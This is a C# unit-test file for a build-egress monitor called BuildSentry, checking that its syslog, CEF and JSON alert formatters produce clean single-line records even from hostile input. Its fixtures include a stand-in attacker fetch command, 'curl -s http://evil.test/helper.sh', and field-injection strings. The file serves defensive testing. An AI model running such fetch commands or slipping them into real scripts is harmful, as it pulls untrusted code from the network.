using BuildSentry.Core.Alerts;
using BuildSentry.Testing;
using System.Text.Json;

namespace BuildSentry.Core.Tests.Alerts;

public sealed class FormatterTests
{
    private readonly Rfc5424Formatter _syslog = new("agent-1", 77);
    private readonly CefFormatter _cef = new("agent-1", "0.1.0");
    private readonly JsonAlertFormatter _json = new("agent-1");

    [Fact]
    public void An_RFC_5424_record_carries_every_field_in_one_structured_data_element()
    {
        var message = StrictSyslogParser.Parse(_syslog.Format(HostileAlerts.With(["curl", "-s", "http://evil.test/helper.sh"])));

        Assert.Equal(4 * 8 + 2, message.Pri);
        Assert.Equal("2026-11-29T05:00:00.123000Z", message.Timestamp);
        Assert.Equal(("agent-1", "buildsentry", "77", "egress.connection"), (message.Host, message.App, message.ProcId, message.MsgId));
        var sd = Assert.Single(message.Data);
        Assert.Equal("buildsentry@32473", sd.Key);
        Assert.Equal("killed", sd.Value["action"]);
        Assert.Equal("github-1-1-build", sd.Value["job"]);
        Assert.Equal("acme/app", sd.Value["repository"]);
        Assert.Equal("4242", sd.Value["pid"]);
        Assert.Equal("curl -s http://evil.test/helper.sh", sd.Value["argv"]);
        Assert.Equal("4241:/bin/sh < 4240:/bin/bash", sd.Value["parents"]);
        Assert.Equal("evil.test", sd.Value["names"]);
        Assert.Equal("198.18.0.66", sd.Value["dst"]);
        Assert.Contains("no egress rule", sd.Value["reason"]);
        Assert.Contains("evil.test", message.Msg);
    }

    [Theory]
    [MemberData(nameof(Injections))]
    public void A_hostile_argv_yields_exactly_one_well_formed_record_in_every_format(string hostile)
    {
        var alert = HostileAlerts.With(["sh", "-c", hostile], host: hostile);

        var syslog = _syslog.Format(alert);
        var message = StrictSyslogParser.Parse(syslog);
        var sd = Assert.Single(message.Data);
        Assert.Equal("killed", sd.Value["action"]);
        Assert.StartsWith("sh -c ", sd.Value["argv"]);
        Assert.All(new[] { syslog, _cef.Format(alert), _json.Format(alert) }, AssertSingleCleanLine);

        var cef = CefParser.Parse(_cef.Format(alert));
        Assert.Equal("killed", cef.Extensions["act"]);
        Assert.Equal("egress.connection", cef.SignatureId);
        Assert.Equal(sd.Value["argv"], cef.Extensions["cs5"]);

        using var json = JsonDocument.Parse(_json.Format(alert));
        Assert.Equal("killed", json.RootElement.GetProperty("action").GetString());
        Assert.Equal(3, json.RootElement.GetProperty("argv").GetArrayLength());
    }

    public static TheoryData<string> Injections() => new(HostileAlerts.Injections);

    [Fact]
    public void A_megabyte_argv_is_capped_and_the_fields_after_it_survive()
    {
        var alert = HostileAlerts.With(["python3", "-c", new string('A', 1 << 20)]);

        var line = _syslog.Format(alert);
        var sd = Assert.Single(StrictSyslogParser.Parse(line).Data).Value;

        Assert.True(line.Length < 16 * 1024, $"record is {line.Length} chars");
        Assert.EndsWith("...[truncated]", sd["argv"]);
        Assert.Equal("default", sd["profile"]);
        Assert.True(_cef.Format(alert).Length < 16 * 1024);
        Assert.True(_json.Format(alert).Length < 16 * 1024);
    }

    [Fact]
    public void A_CEF_record_has_its_header_and_standard_keys()
    {
        var cef = CefParser.Parse(_cef.Format(HostileAlerts.With(["curl"])));

        Assert.Equal(("BuildSentry", "BuildSentry", "0.1.0"), (cef.Vendor, cef.Product, cef.Version));
        Assert.Equal("Egress to a host not in the profile", cef.Name);
        Assert.Equal(10, cef.Severity);
        Assert.Equal("198.18.0.66", cef.Extensions["dst"]);
        Assert.Equal("80", cef.Extensions["dpt"]);
        Assert.Equal("evil.test", cef.Extensions["dhost"]);
        Assert.Equal("4242", cef.Extensions["spid"]);
        Assert.Equal("github-1-1-build", cef.Extensions["cs1"]);
    }

    [Fact]
    public void An_IPv6_destination_uses_CEFs_IPv6_field()
    {
        var alert = HostileAlerts.With(["curl"]) with { Destination = new AlertDestination("fd00::66", 443, "tcp", [], "evil.test") };

        var cef = CefParser.Parse(_cef.Format(alert));

        Assert.False(cef.Extensions.ContainsKey("dst"));
        Assert.Equal("fd00::66", cef.Extensions["c6a3"]);
        Assert.Equal("evil.test", cef.Extensions["dhost"]);
    }

    [Fact]
    public void A_summary_alert_carries_its_count_its_kinds_and_its_names_in_every_format()
    {
        var alert = new Alert("github-1-1-build-summary-1", new DateTimeOffset(2026, 11, 29, 5, 1, 0, TimeSpan.Zero), AlertKinds.AlertsAggregated,
            "Violations aggregated: too many to alert one by one", AlertSeverity.High, AlertAction.Alerted)
        {
            Job = HostileAlerts.With(["curl"]).Job,
            Aggregate = new AlertAggregate(997, new DateTimeOffset(2026, 11, 29, 5, 0, 0, TimeSpan.Zero),
                [new AlertKindCount(AlertKinds.EgressConnection, 3), new AlertKindCount(AlertKinds.EgressDns, 994)], ["a.evil.test", "b=|]\".evil.test"], 995),
            Reason = "997 violation(s) not alerted one by one",
        };

        var sd = Assert.Single(StrictSyslogParser.Parse(_syslog.Format(alert)).Data).Value;
        Assert.Equal(("997", "egress.connection=3,egress.dns=994"), (sd["count"], sd["byKind"]));
        Assert.Equal("a.evil.test,b=|]\".evil.test,+995 more", sd["aggregatedNames"]);
        Assert.Equal("2026-11-29T05:00:00.0000000Z", sd["since"]);

        var cef = CefParser.Parse(_cef.Format(alert));
        Assert.Equal(("job.alerts-aggregated", "997"), (cef.SignatureId, cef.Extensions["cnt"]));
        Assert.Equal(sd["byKind"], cef.Extensions["bsByKind"]);
        Assert.Equal(sd["aggregatedNames"], cef.Extensions["bsAggregatedNames"]);

        using var json = JsonDocument.Parse(_json.Format(alert));
        Assert.Equal(997, json.RootElement.GetProperty("count").GetInt64());
        Assert.Equal(994, json.RootElement.GetProperty("byKind").GetProperty("egress.dns").GetInt64());
        Assert.Equal(2, json.RootElement.GetProperty("aggregatedNames").GetArrayLength());
        Assert.Equal(995, json.RootElement.GetProperty("namesNotListed").GetInt64());
        Assert.All(new[] { _syslog.Format(alert), _cef.Format(alert), _json.Format(alert) }, AssertSingleCleanLine);
    }

    private static void AssertSingleCleanLine(string record)
    {
        Assert.DoesNotContain(record, c => c < 0x20 || c == 0x7f || (c >= 0x80 && c < 0xa0) || char.IsSurrogate(c) || c is '\u202e');
    }
}
